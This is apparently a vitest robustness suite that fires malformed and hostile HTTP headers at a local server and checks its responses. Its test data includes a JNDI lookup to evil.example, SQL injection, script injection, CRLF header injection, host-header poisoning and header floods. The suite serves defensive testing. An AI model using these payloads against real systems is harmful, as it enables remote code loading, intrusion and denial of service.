import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ask, order, orderHead, post } from './support/requests.ts';
import { openTarget, type Attack, type Target } from './support/target.ts';

let target: Target;
beforeAll(async () => {
  target = await openTarget();
});
afterAll(() => target[Symbol.asyncDispose]());

const list = '/orders?limit=1';
const malformed = '400 REQUEST_MALFORMED';
const withLines = (...lines: string[]) => ask(list, lines);
const numbered = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => make(index));
/** Headers that mean nothing here, or that may be ignored: the request is served. */
const ignored = (lines: readonly string[]): Attack[] =>
  lines.map((line) => [JSON.stringify(line.slice(0, 70)), '200', 'serves', withLines(line)]);

const floods: Attack[] = [
  ['a header of 15 KiB', '200', 'serves', withLines(`X: ${'x'.repeat(15_000)}`)],
  ['a header of 17 KiB', '431 HEADERS_TOO_LARGE', 'closes', withLines(`X: ${'x'.repeat(17_000)}`)],
  ['a header of a megabyte', '431 HEADERS_TOO_LARGE', 'closes', withLines(`X: ${'x'.repeat(2 ** 20)}`)],
  ['a header name of 17 KiB', '431 HEADERS_TOO_LARGE', 'closes', withLines(`${'X'.repeat(17_000)}: x`)],
  ['ten thousand headers', '431 HEADERS_TOO_LARGE', 'closes', withLines(...numbered(10_000, (n) => `X-${n}: ${n}`))],
  [
    'ten thousand times the same header',
    '431 HEADERS_TOO_LARGE',
    'closes',
    withLines(...numbered(10_000, () => 'X: y')),
  ],
  ['three thousand headers of nothing', '431 HEADERS_TOO_LARGE', 'closes', withLines(...numbered(2_900, () => 'X:'))],
  ['a thousand cookies', '200', 'serves', withLines(`Cookie: ${numbered(1_000, (n) => `c${n}=${n}`).join('; ')}`)],
  ['cookies of 17 KiB', '431 HEADERS_TOO_LARGE', 'closes', withLines(`Cookie: ${'a=b; '.repeat(3_500)}`)],
  [
    'five hundred cookie headers',
    '431 HEADERS_TOO_LARGE',
    'closes',
    withLines(...numbered(500, (n) => `Cookie: c${n}=${n}`)),
  ],
];

const names: Attack[] = [
  ...ignored([
    '__proto__: x',
    'constructor: x',
    'prototype: x',
    'toString: x',
    'hasOwnProperty: x',
    "!#$%&'*+.^_`|~: x",
  ]),
  ...['(x)', 'x/y', 'x;y', 'x,y', 'x@y', 'x[y]', 'x{y}', '"x"', 'x=y', 'x\x7f', '\x80', 'x y', '\u20ac'].map(
    (name): Attack => [`the name ${JSON.stringify(name)}`, malformed, 'closes', withLines(`${name}: z`)],
  ),
];

const values: Attack[] = [
  ...['\x01', '\x07', '\x08', '\x0b', '\x0c', '\x1b[31m', '\x1f', '\x7f'].map((value): Attack => [
    `the value ${JSON.stringify(value)}`,
    malformed,
    'closes',
    withLines(`X: a${value}b`),
  ]),
  ...ignored([
    'X:',
    'X: ',
    'X:\t\t\t',
    'X: \t a \t ',
    `X: ${' '.repeat(10_000)}y`,
    'X: \u20ac',
    'X: ${jndi:ldap://evil.example/a}',
    "X: ' OR 1=1 --",
    'X: <script>alert(1)</script>',
    'X: %0d%0aSet-Cookie: a=b',
  ]),
];

const hosts: Attack[] = [
  ...['a b', 'x/y', 'x?y', 'x#y', 'user@x', 'x:y', '[::1', '<x>', 'x\\y', '"x"'].map((host): Attack => [
    `the host ${JSON.stringify(host)}`,
    malformed,
    'closes',
    ask(list).replace('Host: x', `Host: ${host}`),
  ]),
  ...[
    '',
    'evil.example',
    'x:',
    'x:80',
    'x,y',
    '127.0.0.1',
    '[::1]:3000',
    'x'.repeat(250),
    'a_b.example',
    'xn--bcher-kva.example.',
  ].map((host): Attack => [
    `the host ${JSON.stringify(host.slice(0, 40))}`,
    '200',
    'serves',
    ask(list).replace('Host: x', `Host: ${host}`),
  ]),
];

const connections: Attack[] = [
  ...ignored([
    'Connection: host',
    'Connection: x-request-id, content-length, transfer-encoding',
    'Connection: keep-alive, keep-alive, keep-alive',
    'Connection: nonsense',
    'Connection: ,,,,',
    `Connection: ${'a,'.repeat(5_000)}`,
    'Keep-Alive: timeout=999999999, max=999999999',
    'Keep-Alive: timeout=-1',
    'TE: trailers, deflate;q=0.5',
    'Trailer: Content-Length',
    'Max-Forwards: 0',
    'Via: 1.1 x, 1.1 y, 1.1 z',
  ]),
  [
    'an upgrade to WebSocket',
    '200',
    'closes',
    withLines(
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
      'Sec-WebSocket-Version: 13',
    ),
  ],
  [
    'an upgrade to HTTP/2',
    '200',
    'closes',
    withLines('Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__'),
  ],
  ['an upgrade with a body', '201', 'closes', post(order, ['Connection: Upgrade', 'Upgrade: x'])],
  ['an upgrade to everything', '200', 'closes', withLines('Upgrade: websocket, h2c, HTTP/2.0, TLS/1.0, nonsense')],
  ['close by its old name', '200', 'closes', withLines('Proxy-Connection: close')],
  ['close among others', '200', 'closes', withLines('Connection: keep-alive, close')],
];

const expectations: Attack[] = [
  ['an unknown expectation', '417 EXPECTATION_FAILED', 'closes', withLines('Expect: the-unexpected')],
  ['an empty expectation', '417 EXPECTATION_FAILED', 'closes', withLines('Expect:')],
  ['two expectations', '200 | 417 EXPECTATION_FAILED', 'serves', withLines('Expect: 100-continue, 200-ok')],
  ['100-continue without a body', '200', 'serves', withLines('Expect: 100-continue')],
  ['100-continue with a body behind it', '201', 'serves', post(order, ['Expect: 100-continue'])],
  [
    '100-continue before a gigabyte',
    '413 BODY_TOO_LARGE',
    'closes',
    `${orderHead}Expect: 100-continue\r\nContent-Length: 1073741824\r\n\r\n`,
  ],
];

const ranges = ignored([
  'Range: bytes=0-0',
  'Range: bytes=-1',
  'Range: bytes=9999999999999999999999-',
  'Range: bytes=5-1',
  'Range: bytes=--1',
  'Range: lines=1-2',
  `Range: bytes=${'0-,'.repeat(4_000)}0-`,
  `Range: bytes=${numbered(1_500, (n) => `${n}-${n}`).join()}`,
  'Range:',
  'If-Range: "x"',
  'If-None-Match: "unclosed',
  'If-None-Match: W/W/"x"',
  `If-None-Match: ${'"a",'.repeat(3_000)}"b"`,
  `If-None-Match: ${'\\"'.repeat(6_000)}`,
  'If-Modified-Since: yesterday',
  'If-Modified-Since: Thu, 01 Jan 99999 00:00:00 GMT',
  'If-Modified-Since: -1',
  'If-Unmodified-Since: nonsense',
  'Cache-Control: max-age=-1, no-cache="',
  'Pragma: \u00ff',
]);

/** Files of a page, which Express serves with ranges and conditions. */
const files: Attack[] = [
  'Range: bytes=0-0',
  'Range: bytes=-1',
  'Range: bytes=9999999999999999999999-',
  'Range: bytes=5-1',
  'Range: bytes=0-0,-1,1-2',
  `Range: bytes=${'0-,'.repeat(4_000)}0-`,
  `Range: bytes=${numbered(1_500, (n) => `${n}-${n}`).join()}`,
  'Range: lines=1-2',
  'If-Range: "x"',
  'If-None-Match: *',
  'If-None-Match: "unclosed',
  `If-None-Match: ${'"a",'.repeat(3_000)}"b"`,
  'If-Match: "x"',
  'If-Modified-Since: Thu, 01 Jan 99999 00:00:00 GMT',
  'If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT',
].map((line) => [
  `${JSON.stringify(line.slice(0, 50))} of a file`,
  '200 | 206 | 304 | 412 | 416',
  'serves',
  ask('/docs/swagger-ui.css', [line]),
]);

const accepts: Attack[] = [
  [
    'a type of seven thousand parts',
    '200 | 406 NOT_ACCEPTABLE',
    'serves',
    withLines(`Accept: application/${'a+'.repeat(7_000)}json`),
  ],
  ...ignored([
    'Accept:',
    'Accept: */*;q=1.5',
    'Accept: */*;q=-1',
    'Accept: application/json;q=abc',
    `Accept: ${'a/b;q=0.1,'.repeat(1_400)}*/*`,
    `Accept: application/json${';a=b'.repeat(3_000)}`,
    `Accept-Encoding: ${'gzip;q=0.1,'.repeat(1_300)}br`,
    `Accept-Encoding: ${'g'.repeat(14_000)}`,
    'Accept-Encoding: gzip;q=NaN, *;q=0',
    'Accept-Encoding: *;q=0, identity;q=0',
    `Accept-Language: ${'en-x-'.repeat(2_500)}`,
    'Accept-Charset: utf-7',
    'X-HTTP-Method-Override: DELETE',
    'X-HTTP-Method: DELETE',
    'X-Method-Override: DELETE',
    'X-Original-URL: /livez',
    'X-Rewrite-URL: /livez',
    'Authorization:',
    `Authorization: Bearer ${'a'.repeat(15_000)}`,
    'Authorization: Basic !!!!',
    'Origin: null',
    'Referer: javascript:alert(1)',
    `User-Agent: ${'('.repeat(15_000)}`,
  ]),
  ...[
    'text/html',
    'application/xml, text/*;q=0.9',
    'application/json;q=0',
    ',,,',
    'json',
    `${'a/'.repeat(7_000)}`,
    `application/${'x+'.repeat(6_000)}`,
    `${' '.repeat(14_000)};`,
  ].map((accept): Attack => [
    `Accept: ${JSON.stringify(accept.slice(0, 40))}`,
    '406 NOT_ACCEPTABLE',
    'serves',
    withLines(`Accept: ${accept}`),
  ]),
];

const timeouts: Attack[] = [
  ...[
    '',
    '-1',
    '+1',
    '1.5',
    '1e3',
    '0x10',
    'NaN',
    'Infinity',
    '5s',
    '1 000',
    '1_000',
    '9'.repeat(16),
    '9'.repeat(10_000),
    '\u0661',
    '1, 1',
    '"1"',
  ].map((timeout): Attack => [
    `x-request-timeout: ${JSON.stringify(timeout.slice(0, 40))}`,
    '400 TIMEOUT_MALFORMED',
    'serves',
    withLines(`X-Request-Timeout: ${timeout}`),
  ]),
  ['two of them', '400 TIMEOUT_MALFORMED', 'serves', withLines('X-Request-Timeout: 1000', 'X-Request-Timeout: 2000')],
  ['none at all', '504 DEADLINE_EXCEEDED', 'serves', withLines('X-Request-Timeout: 0')],
  ['thirty thousand years', '200', 'serves', withLines('X-Request-Timeout: 999999999999999')],
];

describe.each([
  ['a flood', floods],
  ['a name', names],
  ['a value', values],
  ['a host', hosts],
  ['a connection', connections],
  ['an expectation', expectations],
  ['a range or a condition', ranges],
  ['a file', files],
  ['what is accepted, and who asks', accepts],
  ['a time', timeouts],
])('%s:', (_, attacks) => {
  test.each(attacks)('%s gets %s and the connection %s', (...attack) => target.withstand(attack));

  test('and no harm is done', () => target.unharmed(['DEADLINE_EXCEEDED']));
});

describe('what an answer repeats', () => {
  test.each([
    '',
    ' ',
    'a b',
    'a"b',
    '<script>',
    '{}',
    'a,b',
    'a;b',
    'ä',
    '\u2028',
    '%0d%0a',
    'a'.repeat(129),
    'a'.repeat(10_000),
    '${x}',
    '../x\\',
  ])('is no request id like %j', async (id) => {
    const { status, headers, text } = await target.one(ask('/nowhere', [`X-Request-Id: ${id}`, 'Connection: close']));
    expect([status, headers['x-request-id']]).toEqual([404, expect.stringMatching(/^[0-9a-f-]{36}$/)]);
    expect(JSON.parse(text)).toMatchObject({ requestId: headers['x-request-id'] });
  });

  test('is none of two request ids', async () => {
    const lines = ['X-Request-Id: one', 'X-Request-Id: two', 'Connection: close'];
    const { headers } = await target.one(ask(list, lines));
    expect(headers['x-request-id']).not.toMatch(/one|two/);
  });

  test('is never the host that was asked for', async () => {
    const poisoned = [
      'X-Forwarded-Host: evil.example',
      'X-Forwarded-Proto: gopher',
      'Forwarded: host=evil.example',
      'Connection: close',
    ];
    const requests = [
      post(order, poisoned),
      ask('/docs', poisoned),
      ask('/docs/', poisoned),
      ask('/nowhere', poisoned),
      ask('/openapi.json', poisoned),
    ];
    for (const request of requests) {
      const answer = await target.one(request.toString().replace('Host: x', 'Host: evil.example'));
      expect(JSON.stringify(answer)).not.toContain('evil');
    }
  });

  test('is no header of the request', async () => {
    const { headers } = await target.one(
      ask(list, ['Set-Cookie: a=b', 'Location: x', 'X-Evil: y', 'Connection: close']),
    );
    expect(Object.keys(headers)).not.toEqual(expect.arrayContaining([expect.stringMatching(/cookie|location|evil/)]));
  });
});
